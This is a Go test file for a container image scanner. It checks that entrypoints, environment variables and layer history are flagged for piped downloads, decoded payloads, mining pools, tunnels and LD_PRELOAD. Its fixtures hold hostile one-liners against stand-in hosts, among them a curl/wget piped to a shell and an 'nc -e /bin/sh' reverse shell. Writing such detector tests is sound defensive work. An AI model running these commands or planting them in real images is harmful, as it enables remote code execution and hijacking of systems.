package launch

import (
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/boltseal/boltseal/finding"
	"github.com/boltseal/boltseal/image"
	"github.com/boltseal/boltseal/scan/scanner"
)

func scan(t testing.TB, im *scanner.Image) []string {
	found, err := New(nil).ScanImage(t.Context(), im)
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, f := range found {
		out = append(out, strings.TrimSpace(f.Severity.String()+" "+f.Rule.ID+" "+f.Location.Layer))
	}
	return out
}

func TestImages(t *testing.T) {
	for name, tt := range map[string]struct {
		config image.Config
		want   []string
	}{
		"command pipes a download": {
			image.Config{Entrypoint: []string{"/bin/sh", "-c", "wget -qO- http://198.51.100.7/x | sh"}}, []string{"critical command/run-download"},
		},
		"command behind an entrypoint": {
			image.Config{Entrypoint: []string{"/docker-entrypoint.sh"}, Cmd: []string{"bash", "-c", "echo aWQ= | base64 -d | bash"}}, []string{"high command/run-decoded"},
		},
		"miner": {
			image.Config{Entrypoint: []string{"/app/worker"}, Cmd: []string{"-o", "stratum+tcp://a.example:3333"}}, []string{"critical command/mining"},
		},
		"tunnel and login": {
			image.Config{Entrypoint: []string{"/usr/bin/frpc", "-c", "/etc/frpc.ini"}, Cmd: []string{"/usr/sbin/sshd", "-D"}},
			[]string{"medium command/tunnel", "low command/remote-shell"},
		},
		"environment": {
			image.Config{Env: []string{"PATH=/tmp/bin:/bin", "LD_PRELOAD=/dev/shm/a.so", "POOL=stratum+ssl://a.example:1", "NODE_TLS_REJECT_UNAUTHORIZED=0"}},
			[]string{"medium launch/search-path", "high launch/ld-preload", "critical command/mining", "low command/insecure-tls"},
		},
		"good environment": {
			image.Config{Env: []string{"PATH=/usr/local/sbin:/bin", "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", "LANG=C.UTF-8", "GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305"}, Cmd: []string{"python3"}},
			nil,
		},
		"history": {
			image.Config{History: []image.History{
				{CreatedBy: "ADD file:abc in /"},
				{CreatedBy: "CMD [\"sh\"]", EmptyLayer: true},
				{CreatedBy: "RUN --mount=type=cache,target=/x curl http://a.example/x | bash"},
			}},
			[]string{"medium command/run-download layer1"},
		},
		"history of a node image": {
			image.Config{History: []image.History{
				{CreatedBy: "RUN ARCH= && dpkgArch=\"$(dpkg --print-architecture)\" && case \"${dpkgArch##*-}\" in amd64) ARCH='x64' OPENSSL_ARCH='linux-x86_64';; *) echo \"unsupported architecture\"; exit 1 ;; esac && set -ex && curl -fsSLO --compressed \"https://nodejs.org/dist/v$NODE_VERSION/node-v$NODE_VERSION-linux-$ARCH.tar.xz\" && grep \" node-v$NODE_VERSION-linux-$ARCH.tar.xz\\$\" SHASUMS256.txt | sha256sum -c - && tar -xJf \"node-v$NODE_VERSION-linux-$ARCH.tar.xz\" -C /usr/local && node --version"},
				{CreatedBy: "RUN set -eux; wget -O /usr/local/bin/gosu \"https://github.com/tianon/gosu/releases/download/1.17/gosu-amd64\"; gpg --batch --verify /usr/local/bin/gosu.asc /usr/local/bin/gosu; chmod +x /usr/local/bin/gosu; gosu --version; gosu nobody true"},
			}},
			nil,
		},
		"history of a rust image": {
			image.Config{History: []image.History{
				{CreatedBy: "RUN set -eux; url=\"https://static.rust-lang.org/rustup/archive/1.27.1/${rustArch}/rustup-init\"; wget \"$url\"; echo \"${rustupSha256} *rustup-init\" | sha256sum -c -; chmod +x rustup-init; ./rustup-init -y --no-modify-path --profile minimal; rm rustup-init; rustup --version;"},
				{CreatedBy: "RUN curl -fsSL https://deb.nodesource.com/setup_20.x | bash - && apt-get install -y nodejs"},
			}},
			nil,
		},
		"heredoc": {
			image.Config{History: []image.History{{CreatedBy: "RUN <<EOF\ncurl -s http://198.51.100.7/x | sh\nEOF"}, {CreatedBy: "RUN sh -c <<EOF\nnc -e /bin/sh 198.51.100.7 1\nEOF"}}},
			[]string{"high command/run-download layer0", "critical command/reverse-shell layer1"},
		},
	} {
		im := &scanner.Image{Config: &tt.config}
		for _, h := range tt.config.History {
			if !h.EmptyLayer {
				im.Layers = append(im.Layers, image.Descriptor{DiffID: fmt.Sprint("layer", len(im.Layers))})
			}
		}
		if d := cmp.Diff(tt.want, scan(t, im)); d != "" {
			t.Errorf("%s (-want +got):\n%s", name, d)
		}
	}
}

func TestKinds(t *testing.T) {
	found, err := New([]finding.Kind{finding.KindMalware}).ScanImage(t.Context(), &scanner.Image{Config: &image.Config{Entrypoint: []string{"/usr/sbin/sshd"}, Cmd: []string{"ngrok"}}})
	if err != nil || len(found) != 1 || found[0].Rule.ID != "command/tunnel" {
		t.Errorf("findings %v, %v; want the tunnel", found, err)
	}
}
